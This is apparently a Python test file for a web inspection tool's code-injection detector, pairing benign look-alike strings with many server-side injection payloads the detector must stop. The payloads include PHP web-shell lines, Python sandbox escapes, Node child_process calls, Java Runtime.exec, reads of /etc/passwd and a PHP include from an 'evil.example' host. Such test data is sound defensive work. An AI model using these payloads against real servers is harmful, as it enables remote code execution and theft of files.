"""Code of languages that servers run, and code that people only show."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.code import DETECTOR, RULES
from vallum.inspection.model import Context

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    "text",
    [
        "<?php system($_GET['cmd']); ?>",
        "<?=`$_GET[0]`?>",
        "<?= system('id') ?>",
        "GIF89a;<?php eval($_POST[1]);?>",
        "';system('id');//",
        "1;phpinfo();",
        '");system("cat /etc/passwd");//',
        "${@phpinfo()}",
        "{${phpinfo()}}",
        "{${eval($_GET[a])}}",
        "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
        "assert($_REQUEST['x'])",
        "preg_replace('/.*/e','system(\"id\")','')",
        "call_user_func('system','id')",
        "array_map('system',['id'])",
        "$a='sys'.'tem';$a('id');",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
        "('s'.'y'.'stem')('id')",
        "$_GET['a']($_GET['b'])",
        "$GLOBALS['_GET']['x']",
        "system/**/('id')",
        'shell_exec ( "ls -la" )',
        "include($_GET['page'])",
        "file_put_contents('shell.php','<?php eval($_POST[1]);')",
        'passthru("id");exit;',
        "print(`id`);system('id')",
        "__import__('os').system('id')",
        '__import__("subprocess").check_output("id",shell=True)',
        "eval(compile(\"for x in range(1):\\n import os\\n os.system('id')\",'a','single'))",
        "eval(\"__import__('os').popen('id').read()\")",
        "().__class__.__bases__[0].__subclasses__()",
        "''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()",
        "[].__class__.__base__.__subclasses__()",
        "exec(\"import os; os.system('id')\")",
        "import os;os.system('ping -c 1 x.com')",
        "os.popen('whoami').read()",
        "subprocess.Popen(['/bin/sh','-c','id'],shell=True)",
        '1+1 if not __import__("time").sleep(5) else 1',
        "open('/etc/passwd').read()",
        'open("../../etc/passwd","r").read()',
        "getattr(__builtins__,'ev'+'al')('1')",
        "globals()['__builtins__']['__import__']('os')",
        "importlib.import_module('os').system('id')",
        "str(__import__('os').listdir('.'))",
        "pickle.loads(b'cos\\nsystem')",
        "require('child_process').exec('id')",
        'require("child_process").execSync("cat /etc/passwd").toString()',
        "global.process.mainModule.require('child_process').execSync('id')",
        "process.mainModule.require('fs').readFileSync('/etc/passwd')",
        "this.constructor.constructor('return process')().mainModule",
        "Function('return process')().mainModule.require('child_process')",
        'new Function("return this.process.env")()',
        "res.end(require('fs').readdirSync('.').toString())",
        "response.end(process.env)",
        "process.kill(process.pid)",
        "while(1);",
        "process.exit(1)",
        ";process.exit();",
        "_$$ND_FUNC$$_function (){require('child_process').exec('ls /')}()",
        "eval(String.fromCharCode(112,114,111,99))",
        "global['process']['mainModule']['require']('child_process')",
        "process.binding('spawn_sync')",
        "(function(){return process.env})()",
        "import('child_process').then(c=>c.exec('id'))",
        'this["constructor"]["constructor"]("return process.env")()',
        "[].filter.constructor('return process')()",
        "module.constructor._load('child_process').execSync('id')",
        "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);",
        'Runtime.getRuntime().exec("id")',
        'java.lang.Runtime.getRuntime().exec(new String[]{"sh","-c","id"})',
        'new java.lang.ProcessBuilder({"id"}).start()',
        'new ProcessBuilder("cmd","/c","dir").start()',
        'Class.forName("java.lang.Runtime").getMethod("getRuntime")',
        '"".getClass().forName("java.lang.Runtime")',
        "''.class.forName('java.lang.Runtime')",
        'new javax.script.ScriptEngineManager().getEngineByName("js").eval("1")',
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25",
        "class.module.classLoader.URLs[0]",
        "class['classLoader']['resources']",
        '"id".execute().text',
        "['sh','-c','id'].execute()",
        'def p="id".execute();',
        "@GrabConfig(disableChecksums=true)",
        'import sys.process._; "id".!!',
        'new GroovyShell().evaluate("x")',
        "org.springframework.context.support.ClassPathXmlApplicationContext('http://x/a.xml')",
        "Kernel.system('id')",
        'Kernel.exec("id")',
        "IO.popen('id').read",
        "IO.popen(['id'])",
        "%x(id)",
        "%x{cat /etc/passwd}",
        "Object.send(:system,'id')",
        '"x".send(:eval,"`id`")',
        'ERB.new("<%= 1 %>").result',
        "require 'open3'; Open3.capture3('id')",
        'Open3.capture2("id")',
        'Process.spawn("id")',
        'system("id")',
        "File.read('/etc/passwd')",
        'File.open("/etc/passwd").read',
        "self.instance_eval(\"system('id')\")",
        "Object.const_get('Kernel').system('id')",
        "@{[system 'id']}",
        "system 'id'",
        'exec "/bin/sh"',
        'open(F,"|id");',
        'use POSIX; system("id");',
        "qx(id)",
        'System.Diagnostics.Process.Start("cmd.exe","/c dir")',
        "new System.Diagnostics.Process()",
        'Assembly.Load(Convert.FromBase64String("x"))',
        'Type.GetType("System.Diagnostics.Process")',
        'eval request("cmd")',
        '<%eval request("x")%>',
        '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        '<%@ page import="java.io.*" %>',
        "allow_url_include=1",
        "-d allow_url_include=on -d auto_prepend_file=php://input",
        "auto_prepend_file=/tmp/x",
        "echo shell_exec($_GET['cmd']);",
        '$_="x";$_();',
        "@eval($_POST['x']);",
        '@assert("x");',
        "\"; passthru('ls'); $x=\"",
        "print_r(scandir('/'));",
        "var_dump(file_get_contents('/etc/passwd'))",
        "die(system('id'))",
        "O'Brien said hello to us'; system('id'); //",
        "a');}system('id');/*",
    ],
)
def test_code_that_would_run_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "${name}",
        "set ${HOME} and ${PATH:-/usr/bin} first",
        'echo "${USER}" ; cd ${HOME}/src',
        "Use ${{ secrets.GITHUB_TOKEN }} in your workflow",
        "$5 (five dollars)",
        "I paid $20 (twenty) for it",
        "$scope.items",
        "$http.get('/api/x').then(cb)",
        "$('#foo').hide()",
        "$(document).ready(function(){ init(); })",
        "$f(x) = x^2$",
        "The function $f(x)$ is continuous and $g(y)$ is not",
        "$\\frac{a}{b}(c+d)$",
        "\\mathbb{E}[X](1+2)",
        "[link text](https://example.com/foo)",
        "[ACME]: this is, (another) test (foo)bar or foo(bar).",
        "see [the docs][1] (chapter 4)",
        "(a+b)(c+d) = ac+ad+bc+bd",
        'print("hi")',
        "console.log(x)",
        'console.log("hello world")',
        'System.out.println("hi");',
        "require('fs')",
        "import os",
        "import os, sys",
        "from os import path",
        "const fs = require('fs');",
        "const express = require('express')",
        "import React from 'react';",
        "print('Hello, world!')",
        "You should use exec('ls') in PHP with care.",
        "The system() function runs a command; exec() and shell_exec() do too.",
        "Never call eval() on user input.",
        'How do I use subprocess.run(["ls"]) in Python 3 without a shell?',
        'I get an error when I call os.system("ls") from my script, please help',
        'Why is system("pause") bad in C++?',
        "Using Runtime.getRuntime().exec() from Java is discouraged",
        'new ProcessBuilder("ls").start() hangs when the output is large, any ideas?',
        "java.io.IOException",
        "java.util.concurrent.TimeoutException",
        "Caused by: java.sql.SQLException: Access denied for user 'root'@'localhost'",
        "\tat java.base/java.util.ArrayList.get(ArrayList.java:427)",
        "super().__init__()",
        "self.__class__.__name__",
        'if __name__ == "__main__": main()',
        "def __init__(self, name): self.name = name",
        "class Foo(object): def __repr__(self): return self.__class__.__name__",
        "The file (copy) was attached",
        "File (2).pdf",
        "Exec (CEO)",
        "size() > 0",
        "toString()",
        "getName()",
        "main()",
        "init()",
        "my_function()",
        "fix: handle null in parse_date()",
        "Add support for array_map() in docs",
        "PHP files start with <?php and end with ?>",
        "Use the <?= short tag in templates",
        '<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>',
        "[PHP] Fix a bug in the parser",
        "[php] bump dependencies",
        "index.php",
        "https://example.com/index.php?id=3",
        "/wp-content/plugins/foo/bar.php",
        "photo.php.png",
        "set memory_limit = 512M in php.ini and restart",
        "process.env.NODE_ENV should be set to production",
        "We read it from process.env in the app",
        "JavaScript's __proto__ is deprecated",
        "In JavaScript, every object has a __proto__ property that points to its prototype.",
        "while (true) { doWork(); }",
        "while (foo) is bar.",
        "while(i < 10) { i++; }",
        "for (;;) { read(); }",
        "The while(true) loop never ends",
        "${7} dollars",
        "regex: ^[a-z]{2,3}$ and \\d{4}-\\d{2}",
        "/^(?:foo|bar){1,2}$/",
        '{"$ref":"#/components/schemas/User"}',
        '{"$type":"MyApp.Models.Order, MyApp","id":1}',
        "java",
        "Java 17",
        "javascript:",
        "javax",
        "java.util",
        "rO0A is a prefix of base64 Java objects",
        "LazyMap is a data structure in Java",
        "The hex string aced0005 begins each Java stream",
        "!!! important !!!",
        "!important",
        '!Sub "arn:aws:s3:::${Bucket}"',
        "${AWS::Region}",
        "${self:custom.stage}",
        "${file(./config.yml):stage}",
        "${env:HOME}/bin",
        "${workspaceFolder}/src",
        "${project.version}",
        "${spring.datasource.url}",
        "${var.region}",
        "${aws_instance.web.id}",
        "${lower(var.name)}",
        "`Hello ${user.name}, you have ${count} messages`",
        "`${getName()} is here to stay with us`",
        "const x = `${a} ${b}`;",
    ],
)
def test_code_that_is_only_shown_passes(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("<?php echo 1; ?>", "code.php_tag"),
        ("$_GET['x'];", "code.php_variable"),
        ("shell_exec('id')", "code.php_call"),
        ("('sys'.'tem')('id')", "code.php_computed_call"),
        ("auto_prepend_file=php://input", "code.php_setting"),
        ("().__class__.__mro__[1].__subclasses__()", "code.python_object"),
        ("__import__('os').system('id')", "code.python_call"),
        ("require('child_process').exec('id')", "code.node_module"),
        ("process.mainModule.x", "code.node_process"),
        ("new Function('x')", "code.node_eval"),
        ("while(!0);", "code.endless_loop"),
        ("java.lang.Runtime", "code.java_class"),
        ("Runtime.getRuntime().exec('id')", "code.java_call"),
        ("class.module.classLoader.resources.x", "code.java_binding"),
        ("'id'.execute()", "code.groovy"),
        ('System.Diagnostics.Process.Start("cmd")', "code.dotnet"),
        ('<%@ page import="java.io.*" %>', "code.server_page"),
        ("IO.popen('id')", "code.ruby_call"),
        ("@{[system 'id']}", "code.perl"),
    ],
)
def test_the_rule_is_named_and_explained(text: str, rule: str) -> None:
    assert rule in [each.rule for _, each in SUSPECTS.judge(text) if each.score >= STOPS]
    assert RULES[rule]


def test_a_probe_of_the_console_is_no_line_of_a_program() -> None:
    assert SUSPECTS.score("console.info(1)") >= STOPS
    assert SUSPECTS.score("console.log(total)") < STOPS


def test_script_names_count_only_for_uploaded_files() -> None:
    assert SUSPECTS.score("shell.phtml.", "header", name="x-filename") >= STOPS
    assert SUSPECTS.score("shell.phtml.", "query", name="q") < STOPS


def test_binding_to_the_class_loader_counts_most_as_a_name() -> None:
    assert SUSPECTS.score("class.classLoader.x", is_name=True) >= 8


def test_python_in_a_fence_of_markdown_is_shown() -> None:
    assert SUSPECTS.score('```python\nsubprocess.run(["ls"], check=True)\n```', "body") < STOPS


def test_shown_source_code_is_not_judged() -> None:
    assert SUSPECTS.score("<?php system($_GET['c']); ?>", "body", content="code") == 0


@pytest.mark.parametrize("separator", ["/**/", " ", "\t", "/* x */ ", "#x\n", "//x\n"])
def test_what_stands_before_a_parenthesis_hides_nothing(separator: str) -> None:
    assert SUSPECTS.score(f"system{separator}('id')") >= STOPS


def test_the_last_of_many_calls_is_seen() -> None:
    assert SUSPECTS.score("exec (a) " * 200 + ";';system($_GET[1]);") >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "include('http://evil.example/x.php')",
        'require_once("ftp://evil.example/a");',
        "<?php include 'data:text/plain,x';",
        "'; include 'phar://up/a.jpg'; //",
    ],
)
def test_php_that_takes_in_an_address_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "include: 'https://ci.example/base.yml'",
        "Please include 'http://shop.example' in the letter to all of them",
        "prices include 'data' and 'php'",
    ],
)
def test_sentences_and_settings_that_include_addresses_pass(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text", ["java.lang." + "\u00e9" * 200_000 + ")-", "jdk." + "a." * 100_000]
)
def test_what_only_begins_like_the_name_of_a_class_is_read_once(text: str) -> None:
    """It was read from each of its letters again: minutes for a text of this length."""
    assert DETECTOR.judge(f"{text}-", Context("query", "q")) is None
